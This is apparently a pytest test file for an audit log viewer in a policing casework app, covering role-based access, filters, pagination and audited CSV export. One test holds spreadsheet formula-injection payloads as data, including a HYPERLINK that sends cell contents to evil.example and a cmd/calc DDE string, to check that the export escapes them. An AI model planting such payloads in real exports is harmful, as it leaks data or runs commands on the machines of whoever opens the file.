"""The audit log viewer: AUDITOR (and ADMIN, read-only) read, filter and export it (AUD-13)."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from mosovo.audit.choices import Action, Channel, Outcome
from mosovo.audit.models import AuditEvent
from mosovo.audit.services import audit_record
from tests.conftest import Casework, Personas, verified_login

LOG_URL = "/audit/"
CSV_URL = "/audit/export.csv"


def record_at(when: datetime, **kwargs: Any) -> AuditEvent:
    """Write an audit event as if at ``when`` (the model's default time is 'now')."""
    with time_machine.travel(when, tick=False):
        return audit_record(**kwargs)


@dataclass
class Events:
    """Four events that differ in actor, action, channel, RSO and (UK) date."""

    officer_a_reads_rso_a: AuditEvent
    sergeant_a_alters_rso_a: AuditEvent
    officer_b_prints_rso_b: AuditEvent
    failed_sign_in_as_officer_a: AuditEvent

    def all(self) -> set[int]:
        return {
            self.officer_a_reads_rso_a.pk,
            self.sergeant_a_alters_rso_a.pk,
            self.officer_b_prints_rso_b.pk,
            self.failed_sign_in_as_officer_a.pk,
        }


@pytest.fixture
def events(personas: Personas, casework: Casework) -> Events:
    rso_a, rso_b = casework.rso_a, casework.rso_b
    return Events(
        officer_a_reads_rso_a=record_at(
            datetime(2025, 3, 10, 10, 0, tzinfo=UTC),
            action=Action.CONSULTATION,
            actor=personas.officer_a,
            channel=Channel.SCREEN,
            rso_ids=[rso_a.pk],
            object_type="caseload.rso",
            object_ids=[rso_a.pk],
            reason="marker-officer-a-reads",
        ),
        # 12:00 UTC is 13:00 BST on 30 June.
        sergeant_a_alters_rso_a=record_at(
            datetime(2025, 6, 30, 12, 0, tzinfo=UTC),
            action=Action.ALTERATION,
            actor=personas.sergeant_a,
            channel=Channel.API,
            rso_ids=[rso_a.pk],
            object_type="caseload.rso",
            object_ids=[rso_a.pk],
            fields=["risk_level"],
            reason="marker-sergeant-a-alters",
        ),
        # 23:30 UTC on 1 July is 00:30 BST on 2 July: a UK date of 2 July.
        officer_b_prints_rso_b=record_at(
            datetime(2025, 7, 1, 23, 30, tzinfo=UTC),
            action=Action.DISCLOSURE,
            actor=personas.officer_b,
            channel=Channel.PDF,
            rso_ids=[rso_b.pk],
            object_type="caseload.rso",
            object_ids=[rso_b.pk],
            reason="marker-officer-b-prints",
            recipient="MAPPA panel",
            flagged=True,
        ),
        failed_sign_in_as_officer_a=record_at(
            datetime(2025, 7, 3, 9, 0, tzinfo=UTC),
            action=Action.LOGIN_FAILED,
            actor_label="attempted: officer_a",
            channel=Channel.SCREEN,
            outcome=Outcome.FAILURE,
            reason="marker-failed-sign-in",
        ),
    )


def shown(response: Any, among: set[int]) -> set[int]:
    """Return which of the ``among`` events the log page lists."""
    assert response.status_code == 200
    return {event.pk for event in response.context["page_obj"].object_list} & among


def csv_rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_aud_13_auditor_reads_and_filters_the_log(client_for: Any, personas: Personas, events: Events) -> None:
    client = client_for(personas.auditor)
    e = events

    everything = client.get(LOG_URL)
    assert shown(everything, e.all()) == e.all()
    body = everything.content.decode()
    assert "marker-sergeant-a-alters" in body
    assert "risk_level" in body  # field names, never values
    assert "Recipient: MAPPA panel" in body
    assert "Sign-in failed" in body  # the action's label, not its code
    assert "2 Jul 2025, 00:30:00" in body  # UK time (BST), not UTC
    assert body.count('<strong class="govuk-tag govuk-tag--red">Flagged</strong>') == 1

    # By user: the officer's own events and failed sign-ins attempted with their username.
    by_user = client.get(LOG_URL, {"user": "officer_a"})
    assert shown(by_user, e.all()) == {e.officer_a_reads_rso_a.pk, e.failed_sign_in_as_officer_a.pk}
    assert shown(client.get(LOG_URL, {"user": "OFFICER_B"}), e.all()) == {e.officer_b_prints_rso_b.pk}

    by_action = client.get(LOG_URL, {"action": Action.ALTERATION})
    assert shown(by_action, e.all()) == {e.sergeant_a_alters_rso_a.pk}

    by_rso = client.get(LOG_URL, {"rso": e.officer_a_reads_rso_a.rso_ids[0]})
    assert shown(by_rso, e.all()) == {e.officer_a_reads_rso_a.pk, e.sergeant_a_alters_rso_a.pk}

    by_channel = client.get(LOG_URL, {"channel": Channel.PDF})
    assert shown(by_channel, e.all()) == {e.officer_b_prints_rso_b.pk}

    # Date ranges are UK calendar days, both ends included.
    spring = client.get(LOG_URL, {"date_from": "10/03/2025", "date_to": "30/06/2025"})
    assert shown(spring, e.all()) == {e.officer_a_reads_rso_a.pk, e.sergeant_a_alters_rso_a.pk}
    second_of_july = client.get(LOG_URL, {"date_from": "02/07/2025", "date_to": "02/07/2025"})
    assert shown(second_of_july, e.all()) == {e.officer_b_prints_rso_b.pk}
    first_of_july = client.get(LOG_URL, {"date_from": "2025-07-01", "date_to": "2025-07-01"})
    assert shown(first_of_july, e.all()) == set()
    from_july = client.get(LOG_URL, {"date_from": "01/07/2025"})
    assert shown(from_july, e.all()) == {e.officer_b_prints_rso_b.pk, e.failed_sign_in_as_officer_a.pk}

    combined = client.get(LOG_URL, {"user": "officer_a", "action": Action.CONSULTATION, "date_to": "31/03/2025"})
    assert shown(combined, e.all()) == {e.officer_a_reads_rso_a.pk}


def test_aud_13_reading_the_log_is_recorded_as_one_consultation_of_the_events_shown(
    client_for: Any, personas: Personas, events: Events
) -> None:
    client = client_for(personas.auditor)
    response = client.get(LOG_URL, {"action": Action.ALTERATION})
    page_ids = [str(event.pk) for event in response.context["page_obj"].object_list]

    consultations = AuditEvent.objects.filter(actor=personas.auditor, action=Action.CONSULTATION)
    assert consultations.count() == 1
    consultation = consultations.get()
    assert consultation.object_type == "audit.auditevent"
    assert consultation.object_ids == page_ids == [str(events.sergeant_a_alters_rso_a.pk)]
    assert consultation.rso_ids == []
    assert consultation.channel == Channel.SCREEN


def test_aud_13_admin_reads_the_log_read_only(client_for: Any, personas: Personas, events: Events) -> None:
    client = client_for(personas.admin)
    before = set(AuditEvent.objects.values_list("pk", "hash"))

    response = client.get(LOG_URL)
    assert shown(response, events.all()) == events.all()
    body = response.content.decode()
    # The only forms that post are signing out and the export: nothing edits or deletes.
    post_actions = re.findall(r'<form method="post" action="([^"]+)"', body)
    assert sorted(post_actions) == sorted([reverse("accounts:logout"), CSV_URL])
    assert "/admin/audit/" not in body

    for method in ("post", "put", "patch", "delete"):
        assert getattr(client, method)(LOG_URL).status_code == 405
    # Nothing changed; the only new rows are the admin's own consultation of the log.
    after = set(AuditEvent.objects.values_list("pk", "hash"))
    assert before <= after
    assert {AuditEvent.objects.get(pk=pk).action for pk, _ in after - before} == {Action.CONSULTATION}


@pytest.mark.parametrize("persona", ["officer_a", "sergeant_a", "inspector"])
@pytest.mark.parametrize(
    ("method", "url", "view_name"), [("get", LOG_URL, "audit:log"), ("post", CSV_URL, "audit:log_csv")]
)
def test_aud_13_officer_sergeant_and_inspector_get_404_and_an_access_denied_event(
    client_for: Any, personas: Personas, events: Events, persona: str, method: str, url: str, view_name: str
) -> None:
    user = personas.all()[persona]
    client = client_for(user)

    response = getattr(client, method)(url)

    assert response.status_code == 404
    assert "marker-" not in response.content.decode()
    assert response.get("Content-Type", "").startswith("text/html")
    denied = AuditEvent.objects.filter(actor=user, action=Action.ACCESS_DENIED)
    assert denied.count() == 1
    event = denied.get()
    assert event.outcome == Outcome.DENIED
    assert event.object_ids == [view_name]
    assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()


def test_anonymous_visitor_is_sent_to_sign_in(client: Client, personas: Personas) -> None:
    response = client.get(LOG_URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_auditor_and_admin_find_the_audit_log_in_their_navigation(client_for: Any, personas: Personas) -> None:
    for user in (personas.auditor, personas.admin):
        body = client_for(user).get(reverse("home")).content.decode()
        assert f'href="{LOG_URL}"' in body
    officer_home = client_for(personas.officer_a).get(reverse("home")).content.decode()
    assert f'href="{LOG_URL}"' not in officer_home


def test_pagination_shows_50_a_page_and_keeps_the_filters(client_for: Any, personas: Personas) -> None:
    for n in range(60):
        audit_record(action=Action.ALTERATION, actor=personas.sergeant_a, channel=Channel.SCREEN, reason=f"bulk {n}")
    audit_record(action=Action.ERASURE, actor=personas.sergeant_a, channel=Channel.SCREEN, reason="not an alteration")
    client = client_for(personas.auditor)

    first = client.get(LOG_URL, {"action": Action.ALTERATION, "user": "sergeant_a"})
    assert len(first.context["page_obj"].object_list) == 50
    assert first.context["page_obj"].paginator.count == 60
    body = first.content.decode()
    assert 'href="?action=alteration&amp;user=sergeant_a&amp;page=2"' in body

    second = client.get(LOG_URL, {"action": Action.ALTERATION, "user": "sergeant_a", "page": 2})
    rows = list(second.context["page_obj"].object_list)
    assert len(rows) == 10
    assert {row.action for row in rows} == {Action.ALTERATION}
    # Newest first: page 2 holds the oldest ten, the newest of them first.
    assert [row.reason for row in rows] == [f"bulk {n}" for n in range(9, -1, -1)]


def test_invalid_date_range_shows_a_field_error(client_for: Any, personas: Personas, events: Events) -> None:
    client = client_for(personas.auditor)

    response = client.get(LOG_URL, {"date_from": "10/03/2025", "date_to": "01/03/2025"})

    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors == {"date_to": ["The end date must be the same as or after the start date"]}
    body = response.content.decode()
    assert "There is a problem" in body
    assert 'href="#id_date_to"' in body  # the error summary links to the field
    assert 'id="id_date_to-error"' in body
    assert "<title>Error: Audit log" in body
    assert "marker-" not in body  # no events are listed under a broken filter
    assert "Export these events as CSV" not in body


def test_a_date_that_is_not_a_date_shows_a_field_error(client_for: Any, personas: Personas) -> None:
    response = client_for(personas.auditor).get(LOG_URL, {"date_from": "31/02/2025"})
    assert response.context["form"].errors == {"date_from": ["Enter a real date, for example 27/03/2025"]}


def test_csv_export_escapes_formula_injection(client_for: Any, personas: Personas) -> None:
    dangerous = [
        '=HYPERLINK("http://evil.example/?"&A1, "Click for details")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1",
        "-1",
        "\tTabbed",
    ]
    for reason in dangerous:
        audit_record(action=Action.DISCLOSURE, actor=personas.sergeant_a, channel=Channel.PDF, reason=reason)
    client = client_for(personas.auditor)

    response = client.post(CSV_URL, {"action": Action.DISCLOSURE})

    reasons = [row["reason"] for row in csv_rows(response)]
    assert sorted(reasons) == sorted("'" + reason for reason in dangerous)
    assert all(reason.startswith("'") for reason in reasons)


def test_csv_export_has_the_agreed_columns_in_utc(client_for: Any, personas: Personas, events: Events) -> None:
    response = client_for(personas.auditor).post(CSV_URL, {"channel": Channel.PDF})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="audit-log-\d{8}-\d{4}\.csv"', response["Content-Disposition"])
    rows = csv_rows(response)
    assert list(rows[0]) == [
        "seq",
        "occurred_at",
        "actor_label",
        "actor_role",
        "action",
        "channel",
        "outcome",
        "flagged",
        "rso_ids",
        "object_type",
        "object_ids",
        "fields",
        "reason",
        "recipient",
        "client_ip",
        "request_id",
    ]
    assert len(rows) == 1
    row = rows[0]
    event = events.officer_b_prints_rso_b
    event.refresh_from_db()
    assert row["seq"] == str(event.seq)
    assert row["occurred_at"] == "2025-07-01T23:30:00Z"
    assert row["actor_label"].startswith("officer_b")
    assert row["actor_role"] == "OFFICER"
    assert (row["action"], row["channel"], row["outcome"], row["flagged"]) == ("disclosure", "pdf", "success", "yes")
    assert row["rso_ids"] == " ".join(str(i) for i in event.rso_ids)
    assert row["recipient"] == "MAPPA panel"


def test_csv_export_is_itself_audited(client_for: Any, personas: Personas, events: Events) -> None:
    client = client_for(personas.auditor)

    response = client.post(
        CSV_URL, {"user": "officer_a", "action": Action.CONSULTATION, "date_from": "01/03/2025", "date_to": ""}
    )

    assert [row["reason"] for row in csv_rows(response)] == ["marker-officer-a-reads"]
    exports = AuditEvent.objects.filter(action=Action.EXPORT)
    assert exports.count() == 1
    export = exports.get()
    assert export.actor == personas.auditor
    assert export.channel == Channel.CSV
    assert export.outcome == Outcome.SUCCESS
    assert export.object_type == "audit.auditevent"
    assert "CSV export of 1 audit event (all that matched, up to seq" in export.reason
    assert "user officer_a" in export.reason
    assert "action consultation" in export.reason
    assert "from 2025-03-01" in export.reason
    # The export is not a consultation on screen: no second event for the same request.
    assert not AuditEvent.objects.filter(actor=personas.auditor, action=Action.CONSULTATION).exists()


def test_csv_export_refuses_get(client_for: Any, personas: Personas, events: Events) -> None:
    response = client_for(personas.auditor).get(CSV_URL, {"action": Action.CONSULTATION})

    assert response.status_code == 405
    assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()


def test_csv_export_needs_a_csrf_token(personas: Personas, events: Events) -> None:
    client = verified_login(Client(enforce_csrf_checks=True), personas.auditor)

    response = client.post(CSV_URL, {})

    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()


def test_csv_export_with_an_invalid_date_range_exports_nothing(
    client_for: Any, personas: Personas, events: Events
) -> None:
    response = client_for(personas.auditor).post(CSV_URL, {"date_from": "10/03/2025", "date_to": "01/03/2025"})

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "The end date must be the same as or after the start date" in response.content.decode()
    assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()


def test_log_page_queries_do_not_grow_with_the_number_of_events(client_for: Any, personas: Personas) -> None:
    def add_events(count: int) -> None:
        for n in range(count):
            audit_record(action=Action.CONSULTATION, actor=personas.officer_a, channel=Channel.SCREEN, rso_ids=[n + 1])

    # Frozen time: the session's last-seen stamp (written at most every 30 s) stays put,
    # so both requests do the same work.
    with time_machine.travel(datetime(2025, 5, 1, 12, 0, tzinfo=UTC), tick=False):
        client = client_for(personas.auditor)
        add_events(10)
        with CaptureQueriesContext(connection) as with_10:
            assert client.get(LOG_URL).status_code == 200
        add_events(190)
        with CaptureQueriesContext(connection) as with_200:
            assert client.get(LOG_URL).status_code == 200

    # The session, the user, the verified OTP device; COUNT(*) and one SELECT of the page
    # (no join: events carry a copy of the actor's label); then the consultation event
    # (a savepoint, the INSERT, which the chain trigger completes in PostgreSQL, and the
    # savepoint's release).
    assert len(with_10) == len(with_200), [q["sql"] for q in with_200.captured_queries]
    assert len(with_200) <= 8, [q["sql"] for q in with_200.captured_queries]
